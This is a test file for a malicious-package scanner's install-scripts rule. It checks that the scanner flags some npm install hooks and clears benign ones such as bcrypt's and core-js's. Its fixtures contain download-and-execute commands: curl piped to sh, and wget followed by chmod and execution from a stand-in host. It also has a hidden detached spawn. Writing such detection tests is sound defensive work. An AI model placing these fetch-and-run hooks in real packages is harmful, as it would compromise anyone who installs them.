import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { manifest, ofRule, scanFiles } from "../helpers.js";

describe("rule install-scripts", () => {
  it("flags curl piped to sh in postinstall as critical", async () => {
    const report = await scanFiles({ "package.json": manifest({ scripts: { postinstall: "curl -s https://x.example/i.sh | sh" } }) });
    assert.equal(ofRule(report.findings, "install-scripts", "critical").length, 1);
    assert.equal(report.verdict, "malicious");
  });
  it("flags a command expansion that downloads in binding.gyp", async () => {
    const gyp = `{ "targets": [{ "target_name": "x", "sources": ["<!(curl -s https://x.example/p | sh)"] }] }`;
    const report = await scanFiles({ "package.json": manifest({}), "binding.gyp": gyp });
    assert.ok(ofRule(report.findings, "install-scripts", "critical").length > 0, JSON.stringify(report.findings));
  });
  it("does not flag node-addon-api's include expansion or a node-gyp rebuild", async () => {
    const gyp = `{ "targets": [{ "target_name": "x", "include_dirs": ["<!(node -p \\"require('node-addon-api').include\\")"] }] }`;
    const report = await scanFiles({ "package.json": manifest({ scripts: { install: "node-gyp rebuild" } }), "binding.gyp": gyp });
    assert.deepEqual(ofRule(report.findings, "install-scripts", "medium"), []);
    assert.equal(report.verdict, "ok");
  });
  it("flags a Windows background start in preinstall (ua-parser-js)", async () => {
    const report = await scanFiles({ "package.json": manifest({ scripts: { preinstall: "start /B node preinstall.js & node preinstall.js" } }), "preinstall.js": "" });
    assert.ok(ofRule(report.findings, "install-scripts", "high").length > 0);
  });
  it("treats a script that install-time code names as install-time too", async () => {
    const report = await scanFiles({
      "package.json": manifest({ scripts: { preinstall: "node preinstall.js" } }),
      "preinstall.js": "require('child_process').exec('/bin/bash preinstall.sh');",
      "preinstall.sh": "wget -q http://x.example/a -O a\nchmod +x a\n./a\n",
    });
    assert.ok(report.findings.some((f) => f.rule === "download-execute" && f.file === "preinstall.sh" && f.severity === "high"), JSON.stringify(report.findings));
  });
  it("does not weigh bcrypt's node -p version probe in binding.gyp", async () => {
    const gyp = `{ "variables": { "node_major": "<!(node -p \\"process.versions.node.split(\\\\\\".\\\\\\")[0]\\")" } }`;
    const report = await scanFiles({ "package.json": manifest({ scripts: { install: "node-gyp-build" } }), "binding.gyp": gyp });
    assert.deepEqual(ofRule(report.findings, "install-scripts", "medium"), [], JSON.stringify(report.findings));
  });
  it("analyzes inline node -e code as install-time code and finds the file it requires", async () => {
    const report = await scanFiles({
      "package.json": manifest({ scripts: { postinstall: "node -e \"try{require('./postinstall')}catch(e){}\"" } }),
      "postinstall.js": "const { spawn } = require('child_process'); spawn(process.execPath, ['x.js'], { detached: true, stdio: 'ignore' }).unref();",
    });
    assert.ok(ofRule(report.findings, "detached-spawn", "high").length > 0, "postinstall.js is install-time code");
  });
  it("keeps core-js style postinstall banners ok", async () => {
    const report = await scanFiles({
      "package.json": manifest({ scripts: { postinstall: "node -e \"try{require('./postinstall')}catch(e){}\"" } }),
      "postinstall.js": "var env = process.env; var ADBLOCK = is(env.ADBLOCK); if (!ADBLOCK && !is(env.CI)) console.log('\\u001B[96mThank you for using core-js\\u001B[0m');",
    });
    assert.equal(report.verdict, "ok", JSON.stringify(report.findings));
  });
});
